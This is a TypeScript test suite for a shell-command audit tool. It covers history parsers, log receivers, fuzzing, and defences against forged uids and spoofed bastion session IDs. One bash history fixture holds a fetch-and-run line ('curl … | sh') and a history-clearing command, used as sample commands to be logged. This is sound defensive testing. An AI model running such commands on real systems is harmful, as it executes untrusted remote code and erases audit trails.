import { randomBytes } from 'node:crypto';
import { request } from 'node:http';
import { connect } from 'node:net';
import { assertValidDocument, getField } from '../../schema';
import { PARSERS, parserByKind } from '../parsers';
import type { ParseOutput, RawRecord } from '../types';
import { userFromOwner, userFromPath, unmetafy } from './history';
import { mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { startOmauditReceiver } from './omaudit';
import { startHookReceiver, withPeerUid } from './receiver';
import { SessionAddresses } from './hook';
import { sessionLinkId } from './session';
import { linkedSessionId } from '../auditd/session';
import { testContext } from './test-util';

// Legacy and OMAudit times are local to the writer: pin the zone, and give it back afterwards.
const savedTz = process.env['TZ'];
process.env['TZ'] = 'UTC';
afterAll(() => {
  if (savedTz === undefined) delete process.env['TZ'];
  else process.env['TZ'] = savedTz;
});
const SHELL_KINDS = ['hook', 'legacy', 'bash', 'zsh', 'omaudit'] as const;

function rec(text: string, offset = 0, file = '/var/log/x.log'): RawRecord {
  return { text, origin: { file, fileId: `f:${file}`, offset, end: offset + Buffer.byteLength(text) + 1 } };
}

function parseAll(kind: string, lines: readonly string[], file?: string): ParseOutput[] {
  const unit = parserByKind(kind);
  if (!unit) throw new Error(kind);
  const p = unit.create(testContext());
  const out: ParseOutput[] = [];
  let off = 0;
  for (const l of lines) {
    out.push(...p.push(rec(l, off, file)));
    off += Buffer.byteLength(l) + 1;
  }
  out.push(...p.flush(Date.now(), true));
  return out;
}

const events = (out: ParseOutput[]) => out.flatMap((o) => (o.kind === 'event' ? [o.doc] : []));


describe('history helpers', () => {
  it('takes the user of a history file from its path', () => {
    expect(userFromPath('/home/alice/.bash_history')).toBe('alice');
    expect(userFromPath('/root/.zsh_history')).toBe('root');
    expect(userFromPath('/var/backups/hist/bob/.bash_history')).toBe('bob');
    expect(userFromPath('/tmp/history.txt')).toBeUndefined();
  });
  it('falls back to the owner of the history file when the path names no user', () => {
    const f = join(tmpdir(), `auditkit-hist-${process.pid}`);
    writeFileSync(f, '#1700000000\nid\n');
    try {
      expect(userFromOwner(f)).toBe(userInfo().username);
    } finally {
      rmSync(f);
    }
  });
  it('undoes zsh metafication of a byte-transparent string', () => {
    const utf8 = Buffer.from('中文', 'utf8');
    const meta: number[] = [];
    for (const b of utf8) if (b >= 0x83 && b <= 0xa2) meta.push(0x83, b ^ 0x20);
    else meta.push(b);
    expect(unmetafy(Buffer.from(meta).toString('latin1'))).toBe('中文');
  });
  it('uses the user option of the bash parser over the path', () => {
    const { bashParserUnit } = jest.requireActual<typeof import('./history')>('./history');
    const p = bashParserUnit({ user: 'carol' }).create(testContext());
    const out = [...p.push(rec('#1700000000', 0, '/home/alice/.bash_history')), ...p.push(rec('id', 12, '/home/alice/.bash_history')), ...p.flush(0, true)];
    expect(getField(events(out)[0], 'user.name')).toBe('carol');
  });
  it('makes a bash line without its own timestamp a record of its own, flagged, and keeps an open multi-line entry whole', () => {
    const { bashParserUnit } = jest.requireActual<typeof import('./history')>('./history');
    const p = bashParserUnit({ user: 'carol' }).create(testContext());
    const lines = ['#1700000000', 'for i in 1 2; do', '  echo "$i"', 'done', '#1700000009', 'history -c', 'curl -s http://x/p.sh | sh'];
    let off = 0;
    const out: ParseOutput[] = [];
    for (const l of lines) {
      out.push(...p.push(rec(l, off, '/home/alice/.bash_history')));
      off += l.length + 1;
    }
    out.push(...p.flush(0, true));
    const docs = events(out);
    expect(docs.map((d) => getField(d, 'process.command_line'))).toEqual(['for i in 1 2; do\n  echo "$i"\ndone', 'history -c', 'curl -s http://x/p.sh | sh']);
    expect(docs.map((d) => getField(d, 'auditkit.history.untimed'))).toEqual([undefined, undefined, true]);
    expect(getField(docs[2], '@timestamp')).toBe(getField(docs[1], '@timestamp'));
    expect(getField(docs[2], 'tags')).toEqual(['auditkit_time_inferred']);
    expect(docs.map((d) => getField(d, 'auditkit.history.user_from'))).toEqual(['option', 'option', 'option']);
  });
  it('takes the user of a history file from its owner before its path, and says so', () => {
    const { bashParserUnit } = jest.requireActual<typeof import('./history')>('./history');
    const f = join(tmpdir(), `auditkit-hist-owner-${process.pid}`);
    writeFileSync(f, '#1700000000\nid\n');
    try {
      const p = bashParserUnit().create(testContext());
      const out = [...p.push(rec('#1700000000', 0, f)), ...p.push(rec('id', 12, f)), ...p.flush(0, true)];
      expect(getField(events(out)[0], 'user.name')).toBe(userInfo().username);
      expect(getField(events(out)[0], 'auditkit.history.user_from')).toBe('owner');
    } finally {
      rmSync(f);
    }
  });
  it('holds a bash entry until the next timestamp and reports its offset as pending', () => {
    const p = parserByKind('bash')!.create(testContext());
    expect(p.push(rec('#1700000000', 0))).toEqual([]);
    expect(p.push(rec('echo a', 12))).toEqual([]);
    expect(p.pendingOffset('f:/var/log/x.log')).toBe(0);
    expect(events(p.push(rec('#1700000001', 19)))).toHaveLength(1);
    expect(p.pendingOffset('f:/var/log/x.log')).toBe(19);
  });
  it('emits a buffered bash entry once the file has been idle, without waiting for the end', () => {
    let now = 1000;
    const p = parserByKind('bash')!.create({ ...testContext(), now: () => now });
    p.push(rec('#1700000000', 0));
    p.push(rec('echo a', 12));
    expect(p.flush(1500)).toEqual([]);
    now = 5000;
    expect(events(p.flush(5000))).toHaveLength(1);
  });
});

describe('document ids', () => {
  it('gives two identical legacy commands in the same second two ids, and a re-read the same id', () => {
    const line = '[2018-12-11 10:00:01] [(root) alice pts/0 10.0.0.5] [web01@10.0.0.21] rm -rf /tmp/x';
    const a = events(parseAll('legacy', [line, line]));
    const b = events(parseAll('legacy', [line, line]));
    expect(a[0]!.event.id).not.toBe(a[1]!.event.id);
    expect(a.map((d) => d.event.id)).toEqual(b.map((d) => d.event.id));
  });
  it('gives a hook record the same id whether it came through the receiver or the syslog fallback', () => {
    const json = '{"v":1,"shell":"bash","host":"web01","sid":"s1","user":"alice","uid":1001,"euid":1001,"pid":5,"seq":3,"t":1795345099140,"rc":0,"hist":7,"cwd":"/","cmd":"id"}';
    const viaTcp = events(parseAll('hook', [json], 'tcp://127.0.0.1'))[0]!;
    const viaSyslog = events(parseAll('hook', [`Nov 22 10:00:01 web01 auditkit-shell[5]: ${json}`], '/var/log/auth.log'))[0]!;
    expect(viaTcp.event.id).toBe(viaSyslog.event.id);
  });
  it('links the hook session to the auditd session id formula', () => {
    expect(sessionLinkId('host-web01', 1001, 7)).toBe(linkedSessionId('host-web01', 1001, 7));
    expect(sessionLinkId('host-web01', 4294967295, 7)).toBeUndefined();
  });
});

describe('format sniffing', () => {
  const samples: Record<string, string[]> = {
    hook: ['{"v":1,"shell":"bash","sid":"a","seq":1,"t":1795345099140,"cmd":"id"}'],
    legacy: ['[2018-12-11 10:00:01] [(root) alice pts/0 10.0.0.5] [web01@10.0.0.21] ls'],
    bash: ['#1700000000', 'ls', '#1700000001', 'id'],
    zsh: [': 1700000000:0;ls', ': 1700000001:0;id'],
    omaudit: ['history_id=1&history_ip=10.0.0.1&history_user=root&history_datetime=2014-05-07%2010%3A30%3A01&history_command=ls'],
  };
  for (const [kind, sample] of Object.entries(samples)) {
    it(`recognises a ${kind} sample as ${kind} first`, () => {
      expect(PARSERS.find((p) => p.sniff(sample))?.kind).toBe(kind);
    });
  }
});

describe('fuzzing: hostile input is counted, never thrown', () => {
  function seeded(seed: number): () => number {
    let s = seed >>> 0;
    return () => {
      s = (s * 1664525 + 1013904223) >>> 0;
      return s / 4294967296;
    };
  }
  const good: Record<string, string[]> = {
    hook: ['{"v":1,"shell":"bash","host":"web01","sid":"a","user":"alice","uid":1,"euid":1,"pid":5,"seq":1,"t":1795345099140,"rc":0,"hist":1,"cwd":"/","ssh":"10.0.0.5 1 10.0.0.21 22","tty":"pts/0","cmd":"echo \\"hi\\""}', 'Nov 22 10:00:01 web01 auditkit-shell[5]: {"v":1,"sid":"a","seq":2,"t":1795345099140,"cmd":"ls"}'],
    legacy: ['[2018-12-11 10:00:01] [(root) alice pts/0 10.0.0.5] [web01@10.0.0.21,192.168.1.7] rm -rf /tmp/x'],
    bash: ['#1700000000', 'for i in 1; do', 'echo $i', 'done'],
    zsh: [': 1700000000:0;for i in 1; do\\', 'echo $i\\', 'done'],
    omaudit: ['history_id=1&history_ip=10.0.0.1&history_user=root&history_datetime=1399458601&history_command=ls%20-la'],
  };
  for (const kind of SHELL_KINDS) {
    it(`survives random bytes, truncation, invalid UTF-8 and 1 MB lines in the ${kind} parser`, () => {
      const rnd = seeded(kind.length * 7919);
      const lines: string[] = [];
      for (let i = 0; i < 400; i++) {
        const base = good[kind]![i % good[kind]!.length]!;
        switch (i % 6) {
          case 0: lines.push(base); break;
          case 1: lines.push(base.slice(0, Math.floor(rnd() * base.length))); break;
          case 2: lines.push(randomBytes(1 + Math.floor(rnd() * 200)).toString('utf8')); break;
          case 3: lines.push(Buffer.concat([Buffer.from(base.slice(0, 30)), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82]), Buffer.from(base.slice(30))]).toString('utf8')); break;
          case 4: {
            const chars = base.split('');
            for (let k = 0; k < 3; k++) chars[Math.floor(rnd() * chars.length)] = String.fromCharCode(Math.floor(rnd() * 0x3000));
            lines.push(chars.join(''));
            break;
          }
          default: lines.push(i % 60 === 5 ? base + 'x'.repeat(1 << 20) : base.replace(/\d/g, () => String(Math.floor(rnd() * 10))));
        }
      }
      lines.push('x'.repeat(1 << 20));
      let out: ParseOutput[] = [];
      expect(() => {
        out = parseAll(kind, lines);
      }).not.toThrow();
      const errs = out.filter((o) => o.kind === 'error');
      const evs = events(out);
      expect(errs.length + evs.length).toBeGreaterThan(0);
      for (const e of errs) {
        if (e.kind !== 'error') continue;
        expect(e.code).toMatch(/^SHELL_/);
        expect(e.raw.length).toBeLessThanOrEqual(65536 + 64);
      }
      for (const d of evs) assertValidDocument(d);
    });
  }
});

describe('the OMAudit receiver', () => {
  function get(url: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      const req = request(url, { headers }, (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      });
      req.on('error', reject);
      req.end();
    });
  }

  it('ignores a client _peer= parameter: only the socket says where a request came from', async () => {
    const got: RawRecord[] = [];
    const r = await startOmauditReceiver((x) => void got.push(x), { port: 0 });
    try {
      const res = await get(`${r.url}?history_id=1&history_user=root&history_datetime=2014-05-07%2010:30:01&history_command=id&_peer=10.66.66.66`);
      expect(res.status).toBe(200);
      expect(got[0]!.text).not.toContain('10.66.66.66');
      const doc = events(parserByKind('omaudit')!.create(testContext()).push(got[0]!))[0]!;
      expect(getField(doc, 'host.ip')).toEqual(['127.0.0.1']);
    } finally {
      await r.close();
    }
  });

  it('accepts a request target up to the documented 256 KiB (no 431 at Node\'s 16 KiB header limit)', async () => {
    const got: RawRecord[] = [];
    const r = await startOmauditReceiver((x) => void got.push(x), { port: 0 });
    try {
      const cmd = 'x'.repeat(200 * 1024);
      const res = await get(`${r.url}?history_id=2&history_user=root&history_datetime=2014-05-07%2010:30:01&history_command=${cmd}`);
      expect(res.status).toBe(200);
      expect(got).toHaveLength(1);
      const big = await get(`${r.url}?history_command=${'y'.repeat(300 * 1024)}`);
      expect([414, 431]).toContain(big.status);
    } finally {
      await r.close();
    }
  });

  it('answers OK to an agent request and hands the pipeline a record the omaudit parser turns into a command', async () => {
    const got: RawRecord[] = [];
    const r = await startOmauditReceiver((x) => {
      got.push(x);
    }, { port: 0 });
    try {
      expect(r.url.startsWith('http://127.0.0.1:')).toBe(true);
      const res = await get(`${r.url}?history_id=12&history_ip=10.0.0.9&history_user=root&history_datetime=2014-05-07%2010:30:01&history_command=${encodeURIComponent('echo 中文 "q"')}`);
      expect(res).toEqual({ status: 200, body: 'OK' });
      expect(got).toHaveLength(1);
      const doc = events(parserByKind('omaudit')!.create(testContext()).push(got[0]!))[0]!;
      assertValidDocument(doc);
      expect(getField(doc, 'process.command_line')).toBe('echo 中文 "q"');
      expect(getField(doc, 'user.name')).toBe('root');
      expect(getField(doc, 'host.ip')).toEqual(['10.0.0.9']);
    } finally {
      await r.close();
    }
  });

  it('refuses a request without the configured token and never passes it on', async () => {
    const got: RawRecord[] = [];
    const r = await startOmauditReceiver((x) => {
      got.push(x);
    }, { port: 0, token: 's3cret' });
    try {
      expect((await get(`${r.url}?history_command=id`)).status).toBe(403);
      expect((await get(`${r.url}?history_command=id&token=wrong`)).status).toBe(403);
      expect((await get(`${r.url}?history_command=id`, { authorization: 'Bearer s3cret' })).body).toBe('OK');
      expect((await get(`${r.url}?history_command=id&token=s3cret`)).body).toBe('OK');
      expect(got).toHaveLength(2);
      expect(got.every((x) => !x.text.includes('s3cret'))).toBe(true);
      expect((await get(r.url.replace('/omaudit/omaudit_pull/', '/other'))).status).toBe(404);
    } finally {
      await r.close();
    }
  });

  it('answers 503 when the pipeline cannot queue the record, so the agent retries', async () => {
    const r = await startOmauditReceiver(() => Promise.reject(new Error('spool full')), { port: 0 });
    try {
      expect((await get(`${r.url}?history_command=id`)).status).toBe(503);
      expect(r.stats.failed).toBe(1);
    } finally {
      await r.close();
    }
  });

  it('fails to start with a coded error when the port is taken', async () => {
    const a = await startOmauditReceiver(() => undefined, { port: 0 });
    const port = Number(new URL(a.url).port);
    try {
      await expect(startOmauditReceiver(() => undefined, { port })).rejects.toMatchObject({ code: 'SHELL_OMAUDIT_LISTEN', message: expect.stringContaining(`127.0.0.1:${port}`) });
    } finally {
      await a.close();
    }
  });
});

describe('the hook receiver', () => {
  function send(port: number, line: string): Promise<string> {
    return new Promise((resolve, reject) => {
      const s = connect(port, '127.0.0.1', () => s.write(line + '\n'));
      let reply = '';
      s.on('data', (d) => {
        reply += d.toString();
        if (reply.includes('\n')) {
          s.destroy(); // as the hook does: close once the answer is read
          resolve(reply);
        }
      });
      s.on('end', () => resolve(reply));
      s.on('error', reject);
    });
  }

  it('acknowledges a record with OK after the pipeline took it, stamped with the sender uid from the kernel', async () => {
    const got: RawRecord[] = [];
    const r = await startHookReceiver((x) => {
      got.push(x);
    }, { port: 0 });
    try {
      const reply = await send(r.port, '{"v":1,"sid":"s","seq":1,"t":1795345099140,"uid":0,"peer_uid":4242,"cmd":"id"}');
      expect(reply).toBe('OK\n');
      expect(got).toHaveLength(1);
      const o = JSON.parse(got[0]!.text) as Record<string, unknown>;
      // We run the test as some uid: the kernel's answer replaces the forged claim.
      expect(o['peer_uid']).toBe(process.getuid?.());
      expect(got[0]!.origin.file).toBe('tcp://127.0.0.1');
    } finally {
      await r.close();
    }
  });

  it('removes a claimed peer uid it could not verify', () => {
    expect(JSON.parse(withPeerUid('{"v":1,"peer_uid":0}', undefined) as string)).toEqual({ v: 1 });
    expect(withPeerUid('not json', 5)).toBe('not json');
  });

  it('answers RETRY when the pipeline cannot queue the record, so the hook falls back', async () => {
    const r = await startHookReceiver(() => Promise.reject(new Error('spool full')), { port: 0 });
    try {
      expect(await send(r.port, '{"v":1}')).toBe('RETRY\n');
    } finally {
      await r.close();
    }
  });

  it('fails to start with a coded error when the port is taken', async () => {
    const a = await startHookReceiver(() => undefined, { port: 0 });
    try {
      await expect(startHookReceiver(() => undefined, { port: a.port })).rejects.toMatchObject({ code: 'SHELL_HOOK_LISTEN', message: expect.stringContaining(`127.0.0.1:${a.port}`) });
    } finally {
      await a.close();
    }
  });
});

describe('the bastion session and client address of a login: who may declare them (issue 17)', () => {
  const B1 = '5f0c1d2e-3a4b-4c5d-8e6f-7a8b9c0d1e2f';
  const B2 = '9e8d7c6b-5a49-4837-a625-14f3e2d1c0b9';
  /** A receiver record (kernel-attested sender `peer`) of login luid/ses. */
  function hookRec(o: { seq: number; uid: number; peer?: number; luid?: number; ses?: number; bsid?: string; ssh?: string }): string {
    return JSON.stringify({ v: 1, shell: 'bash', host: 'web01', sid: `s-${o.uid}-${o.seq}`, user: `u${o.uid}`, uid: o.uid, euid: o.uid, pid: 100 + o.seq, ...(o.luid !== undefined ? { luid: o.luid } : {}), ...(o.ses !== undefined ? { ses: o.ses } : {}), ...(o.ssh !== undefined ? { ssh: o.ssh } : {}), ...(o.bsid !== undefined ? { bsid: o.bsid } : {}), seq: o.seq, t: 1795345099140 + o.seq, rc: 0, cmd: `cmd${o.seq}`, ...(o.peer !== undefined ? { peer_uid: o.peer } : {}) });
  }
  const kit = (d: unknown, p: string): unknown => getField(d as Record<string, unknown>, p);
  function run(lines: readonly string[], file = 'tcp://127.0.0.1'): Array<{ bastion: unknown; claimed: unknown; refused: boolean; ip: unknown }> {
    const docs = events(parseAll('hook', lines, file));
    for (const d of docs) assertValidDocument(d);
    return docs.map((d) => ({ bastion: kit(d, 'auditkit.bastion.session_id'), claimed: kit(d, 'auditkit.claimed.bastion_session_id'), refused: ((d as { tags?: readonly string[] }).tags ?? []).includes('auditkit_bastion_session_refused'), ip: kit(d, 'source.ip') }));
  }

  it('refuses a bastion id another account claims for someone\'s login, and the login keeps its own', () => {
    const out = run([
      hookRec({ seq: 1, uid: 1002, peer: 1002, luid: 1002, ses: 77, bsid: B1 }),
      // nobody names deploy's login (luid 1002, ses 77) with another id, and then with none.
      hookRec({ seq: 2, uid: 1002, peer: 65534, luid: 1002, ses: 77, bsid: B2 }),
      hookRec({ seq: 3, uid: 65534, peer: 65534, luid: 1002, ses: 77 }),
      // deploy's sudo -i shell (root, no variable any more) inherits the login's first id.
      hookRec({ seq: 4, uid: 0, peer: 0, luid: 1002, ses: 77 }),
    ]);
    expect(out.map((o) => [o.bastion, o.claimed, o.refused])).toEqual([
      [B1, undefined, false],
      [undefined, B2, true],
      [undefined, undefined, false],
      [B1, undefined, false],
    ]);
  });

  it('keeps the first bastion id a login declared: a later one, even from its own account, is refused', () => {
    const out = run([
      hookRec({ seq: 1, uid: 1002, peer: 1002, luid: 1002, ses: 77, bsid: B1 }),
      hookRec({ seq: 2, uid: 1002, peer: 1002, luid: 1002, ses: 77, bsid: B2 }),
      hookRec({ seq: 3, uid: 0, peer: 0, luid: 1002, ses: 77 }),
      // One id, one login: another account's own login cannot take the same id.
      hookRec({ seq: 4, uid: 1003, peer: 1003, luid: 1003, ses: 78, bsid: B1 }),
    ]);
    expect(out.map((o) => [o.bastion, o.claimed, o.refused])).toEqual([
      [B1, undefined, false],
      [undefined, B2, true],
      [B1, undefined, false],
      [undefined, B1, true],
    ]);
  });

  it('refuses a bastion id from a sender the kernel did not attest, and does not remember it for the login', () => {
    const syslog = (line: string): string => `Nov 22 10:00:01 web01 auditkit-shell[5]: ${line}`;
    const out = run([syslog(hookRec({ seq: 1, uid: 1002, luid: 1002, ses: 77, bsid: B2 })), syslog(hookRec({ seq: 2, uid: 1002, luid: 1002, ses: 77 }))], '/var/log/auth.log');
    expect(out.map((o) => [o.bastion, o.claimed, o.refused])).toEqual([
      [undefined, B2, true],
      [undefined, undefined, false],
    ]);
    // Without a login to check it against (no luid/ses), only root's word is taken.
    expect(run([hookRec({ seq: 1, uid: 1002, peer: 1002, bsid: B1 }), hookRec({ seq: 2, uid: 0, peer: 0, bsid: B2 })]).map((o) => [o.bastion, o.refused])).toEqual([
      [undefined, true],
      [B2, false],
    ]);
  });

  it('lets root declare the bastion id of any login, first id still winning', () => {
    const out = run([hookRec({ seq: 1, uid: 0, peer: 0, luid: 1002, ses: 77, bsid: B1 }), hookRec({ seq: 2, uid: 1002, peer: 1002, luid: 1002, ses: 77 }), hookRec({ seq: 3, uid: 0, peer: 0, luid: 1002, ses: 77, bsid: B2 })]);
    expect(out.map((o) => [o.bastion, o.claimed, o.refused])).toEqual([
      [B1, undefined, false],
      [B1, undefined, false],
      [undefined, B2, true],
    ]);
  });

  it('gives a login\'s inherited client address only to its own account or root, first address winning', () => {
    const out = run([
      hookRec({ seq: 1, uid: 1002, peer: 1002, luid: 1002, ses: 77, ssh: '10.0.0.9 40022 10.0.0.21 22' }),
      // nobody declares another address for deploy's login, then asks for it.
      hookRec({ seq: 2, uid: 1002, peer: 65534, luid: 1002, ses: 77, ssh: '6.6.6.6 1234 10.0.0.21 22' }),
      hookRec({ seq: 3, uid: 65534, peer: 65534, luid: 1002, ses: 77 }),
      hookRec({ seq: 4, uid: 0, peer: 0, luid: 1002, ses: 77 }),
    ]);
    expect(out.map((o) => o.ip)).toEqual(['10.0.0.9', '6.6.6.6', undefined, '10.0.0.9']);
  });

  /** A UUID-shaped bastion id, one per n. */
  const bid = (n: number): string => `${n.toString(16).padStart(8, '0')}-0000-4000-8000-000000000000`;

  it('keeps a real login\'s bastion id and address through a flood of 20,000 fictitious logins from another uid', () => {
    const deploy = hookRec({ seq: 1, uid: 1002, peer: 1002, luid: 1002, ses: 77, bsid: B1, ssh: '10.0.0.9 40022 10.0.0.21 22' });
    // nobody names 20,000 logins of its own uid (ses numbers the kernel never gave it), each with an address and an id.
    const flood = Array.from({ length: 20_000 }, (_, i) => hookRec({ seq: 10 + i, uid: 65534, peer: 65534, luid: 65534, ses: 1000 + i, bsid: bid(i), ssh: `6.6.${(i >> 8) & 255}.${i & 255} 1 10.0.0.21 22` }));
    const after = [
      // deploy's sudo -i shell, after the flood: still its login's id and address.
      hookRec({ seq: 30_001, uid: 0, peer: 0, luid: 1002, ses: 77 }),
      // nobody's newest fictitious login is still remembered; its first was forgotten (its own budget).
      hookRec({ seq: 30_002, uid: 0, peer: 0, luid: 65534, ses: 1000 + 19_999 }),
      hookRec({ seq: 30_003, uid: 0, peer: 0, luid: 65534, ses: 1000 }),
    ];
    const docs = events(parseAll('hook', [deploy, ...flood, ...after], 'tcp://127.0.0.1'));
    expect(docs).toHaveLength(20_004);
    const tail = docs.slice(-3);
    for (const d of tail) assertValidDocument(d);
    expect(tail.map((d) => [kit(d, 'auditkit.bastion.session_id'), kit(d, 'source.ip')])).toEqual([
      [B1, '10.0.0.9'],
      [bid(19_999), '6.6.78.31'],
      [undefined, undefined],
    ]);
  });

  it('forgets an account\'s least recently used login over its budget, not the one its shells still use', () => {
    const lines = [
      hookRec({ seq: 1, uid: 1002, peer: 1002, luid: 1002, ses: 77, bsid: B1, ssh: '10.0.0.9 40022 10.0.0.21 22' }),
      // 63 more logins of deploy fill its budget of 64 ...
      ...Array.from({ length: 63 }, (_, i) => hookRec({ seq: 2 + i, uid: 1002, peer: 1002, luid: 1002, ses: 78 + i, ssh: '10.0.0.8 1 10.0.0.21 22' })),
      // ... login 77's sudo -i shell uses it again, then one more login pushes out the least recently used (78).
      hookRec({ seq: 100, uid: 0, peer: 0, luid: 1002, ses: 77 }),
      hookRec({ seq: 101, uid: 1002, peer: 1002, luid: 1002, ses: 500, ssh: '10.0.0.7 1 10.0.0.21 22' }),
      hookRec({ seq: 102, uid: 0, peer: 0, luid: 1002, ses: 77 }),
      hookRec({ seq: 103, uid: 0, peer: 0, luid: 1002, ses: 78 }),
      hookRec({ seq: 104, uid: 0, peer: 0, luid: 1002, ses: 79 }),
    ];
    expect(run(lines).slice(-3).map((o) => [o.bastion, o.ip])).toEqual([
      [B1, '10.0.0.9'],
      [undefined, undefined],
      [undefined, '10.0.0.8'],
    ]);
  });

  it('forgets the least recently used login of all over the overall cap, and frees its bastion id', () => {
    const s = new SessionAddresses(3, 64);
    s.remember('h|1|1', 1, '10.0.0.1', undefined);
    expect(s.claimBastion('h|2|2', 2, B1)).toBe(true);
    s.remember('h|3|3', 3, '10.0.0.3', 22);
    expect(s.lookup('h|1|1')).toEqual({ ip: '10.0.0.1' });
    s.remember('h|4|4', 4, '10.0.0.4', undefined);
    expect([s.lookup('h|1|1'), s.lookupBastion('h|2|2'), s.lookup('h|3|3'), s.size, s.evicted]).toEqual([{ ip: '10.0.0.1' }, undefined, { ip: '10.0.0.3', port: 22 }, 3, { budget: 0, cap: 1 }]);
    // The forgotten login's id is free again, for whichever login of its owner (or root) declares it next.
    expect(s.claimBastion('h|4|4', 4, B1)).toBe(true);
  });
});

describe('the hook login memory across restarts (issue 17)', () => {
  const B1 = '5f0c1d2e-3a4b-4c5d-8e6f-7a8b9c0d1e2f';
  const dir = mkdtempSync(join(tmpdir(), 'ak-hook-mem-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('is saved only when it changed (mode 600) and read back through the same budgets', async () => {
    const file = join(dir, 'hook-sessions.json');
    const s = new SessionAddresses(10, 2, file);
    s.remember('h|5|1', 5, '10.0.0.1', 4000);
    expect(s.claimBastion('h|5|2', 5, B1)).toBe(true);
    s.remember('h|6|1', 0, '10.0.0.6', undefined);
    expect(await s.save(true)).toBe(true);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    // A lookup alone changes nothing that is saved.
    s.lookup('h|5|1');
    expect(await s.save(true)).toBe(false);
    const back = new SessionAddresses(10, 2, file);
    expect(back.load()).toEqual({ loaded: 3, damaged: false });
    expect([back.lookup('h|5|1'), back.lookupBastion('h|5|2'), back.lookup('h|6|1')]).toEqual([{ ip: '10.0.0.1', port: 4000 }, B1, { ip: '10.0.0.6' }]);
    // The id is still held by its login: another login cannot take it after the restart.
    expect(back.claimBastion('h|5|3', 5, B1)).toBe(false);
    // A smaller budget at start keeps each owner's most recent logins, counted.
    const small = new SessionAddresses(10, 1, file);
    expect(small.load()).toEqual({ loaded: 2, damaged: false });
    expect([small.lookup('h|5|1'), small.lookupBastion('h|5|2'), small.evicted]).toEqual([undefined, B1, { budget: 1, cap: 0 }]);
  });

  it('forgets what was saved before a reboot of this host (the kernel numbers ses from 1 again)', async () => {
    const file = join(dir, 'reboot.json');
    const before = new SessionAddresses(10, 64, file, 'boot-a');
    before.remember('h|5|1', 5, '10.0.0.1', undefined);
    expect(before.claimBastion('h|5|1', 5, B1)).toBe(true);
    expect(await before.save(true)).toBe(true);
    expect(new SessionAddresses(10, 64, file, 'boot-a').load()).toEqual({ loaded: 1, damaged: false });
    const after = new SessionAddresses(10, 64, file, 'boot-b');
    expect(after.load()).toEqual({ loaded: 0, damaged: false });
    // The new boot's login 1 declares its own id, which the stale one would have refused.
    after.remember('h|5|1', 5, '10.0.0.2', undefined);
    expect([after.claimBastion('h|5|1', 5, '1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d'), after.lookup('h|5|1')]).toEqual([true, { ip: '10.0.0.2' }]);
  });

  it('keeps a damaged file aside and starts empty', () => {
    const file = join(dir, 'damaged.json');
    writeFileSync(file, '{"version":1,"logins":[');
    const s = new SessionAddresses(10, 64, file);
    expect(s.load()).toEqual({ loaded: 0, damaged: true });
    expect(s.size).toBe(0);
    expect(readdirSync(dir).filter((f) => f.startsWith('damaged.json.damaged-'))).toHaveLength(1);
  });
});
